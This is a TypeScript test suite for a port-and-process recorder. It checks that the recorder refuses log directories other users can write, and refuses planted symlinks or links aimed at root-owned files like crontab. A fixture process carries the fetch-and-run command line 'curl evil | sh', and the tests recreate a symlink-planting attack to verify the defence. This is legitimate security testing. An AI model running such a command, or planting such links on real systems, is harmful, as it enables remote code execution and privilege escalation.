/**
 * A hostile log directory (issue 12, "Safety of the log directory"). The attack: a root recorder given
 * a directory another user can write followed symlinks planted there, truncated a root-owned file
 * (the crash repair) and appended an attacker-chosen command line to another (the continued set).
 * These tests make that directory for real (owned by `nobody`), so they need root; without it they
 * are a visible skip.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import t from 'tap';
import { runRecorder, type RecorderOptions } from '../../../src/recorder/recorder';
import { FakeBackend, proc, tcp } from '../../helpers/fake-backend';

const NOBODY = 65534;
const root = process.getuid?.() === 0;

function tmpDir(t: { teardown(fn: () => void): void }): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rec-safety-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  return dir;
}

async function record(logDir: string, extra: Partial<RecorderOptions> = {}) {
  const controller = new AbortController();
  const p = proc(4242, { commandLine: 'sh -c "curl evil | sh"' });
  const backend = new FakeBackend([() => ({ endpoints: [tcp(1, 4242)], processes: [p] }), () => ({ endpoints: [tcp(1, 4242), tcp(2, 4242)], processes: [p] })]);
  return runRecorder({
    backend,
    intervalMs: 100,
    durationMs: null,
    logDir,
    rotation: { start: false, daily: false, size: true, maxBytes: 5_000_000 },
    jsonl: true,
    generatedBy: 'portqry-ts test',
    signal: controller.signal,
    warn: () => {},
    onPoll: ({ polls }) => {
      if (polls >= 2) controller.abort();
    },
    ...extra,
  });
}

t.test('the attack: a directory nobody can write, symlinks planted to root-owned files: refused (78), the files untouched', { skip: root ? false : 'needs root (chown to nobody)' }, async (t) => {
  const base = tmpDir(t);
  const victims = path.join(base, 'victims');
  fs.mkdirSync(victims, { mode: 0o755 });
  const truncated = path.join(victims, 'ld.so.preload');
  const appended = path.join(victims, 'crontab');
  fs.writeFileSync(truncated, 'line one\nno newline at the end');
  fs.writeFileSync(appended, '# root crontab\n');
  const logs = path.join(base, 'logs');
  fs.mkdirSync(logs, { mode: 0o755 });
  fs.chownSync(logs, NOBODY, NOBODY);
  // What the other user plants: the "newest set" is two symlinks.
  const suffix = '26-12-1-0-0-0';
  fs.symlinkSync(truncated, path.join(logs, `PR-PORTS-${suffix}.log`));
  fs.symlinkSync(appended, path.join(logs, `PR-PIDS-${suffix}.log`));
  fs.lchownSync(path.join(logs, `PR-PORTS-${suffix}.log`), NOBODY, NOBODY);
  fs.lchownSync(path.join(logs, `PR-PIDS-${suffix}.log`), NOBODY, NOBODY);
  await t.rejects(record(logs), { exitCode: 78, message: new RegExp(`${logs.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}.*(writable|owned)`) });
  t.equal(fs.readFileSync(truncated, 'utf8'), 'line one\nno newline at the end', 'root-owned file not truncated');
  t.equal(fs.readFileSync(appended, 'utf8'), '# root crontab\n', 'nothing appended to the other');
  t.same(fs.readdirSync(logs).sort(), [`PR-PIDS-${suffix}.log`, `PR-PORTS-${suffix}.log`], 'nothing created in the directory either');
});

t.test('a log directory writable by others is refused even with the sticky bit; so is a parent writable by others', { skip: root ? false : 'needs root' }, async (t) => {
  const base = tmpDir(t);
  const sticky = path.join(base, 'sticky');
  fs.mkdirSync(sticky);
  fs.chmodSync(sticky, 0o1777);
  await t.rejects(record(sticky), { exitCode: 78, message: /writable by other users/ });
  const group = path.join(base, 'group');
  fs.mkdirSync(group);
  fs.chmodSync(group, 0o770);
  await t.rejects(record(group), { exitCode: 78, message: /writable by other users/ });
  const open = path.join(base, 'open');
  fs.mkdirSync(open);
  fs.chmodSync(open, 0o777);
  const inside = path.join(open, 'logs');
  await t.rejects(record(inside), { exitCode: 78, message: new RegExp(`${open.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}\\b`) });
  t.notOk(fs.existsSync(inside), 'not created under an unsafe parent');
  const other = path.join(base, 'other');
  fs.mkdirSync(other, { mode: 0o700 });
  fs.chownSync(other, NOBODY, NOBODY);
  await t.rejects(record(other), { exitCode: 78, message: /owned by uid 65534/ });
});

t.test('a safe directory under a sticky world-writable parent (/tmp) is accepted: its entry cannot be renamed by others', { skip: root ? false : 'needs root' }, async (t) => {
  const base = tmpDir(t);
  const summary = await record(path.join(base, 'logs'));
  t.equal(summary.opened, 1);
});

t.test('a symlink, a hard link, a FIFO or another user’s file planted in a safe directory is never written or truncated', { skip: root ? false : 'needs root' }, async (t) => {
  const base = tmpDir(t);
  const victim = path.join(base, 'victim');
  fs.writeFileSync(victim, 'precious\npartial');
  const suffix = '26-12-1-0-0-0';
  for (const [kind, plant] of [
    ['PORTS', (f: string) => fs.symlinkSync(victim, f)],
    ['PORTS', (f: string) => fs.linkSync(victim, f)],
    [
      'PIDS',
      (f: string) => {
        fs.writeFileSync(f, 'owned by nobody\npartial');
        fs.chownSync(f, NOBODY, NOBODY);
      },
    ],
  ] as const) {
    const logs = path.join(base, `logs-${kind}-${Math.random().toString(36).slice(2)}`);
    fs.mkdirSync(logs, { mode: 0o700 });
    const f = path.join(logs, `PR-${kind}-${suffix}.log`);
    plant(f);
    await t.rejects(record(logs), { exitCode: 78, message: /not a regular file of ours|link/ }, `${kind}: refused`);
    t.equal(fs.readFileSync(victim, 'utf8'), 'precious\npartial', 'victim untouched');
  }
});
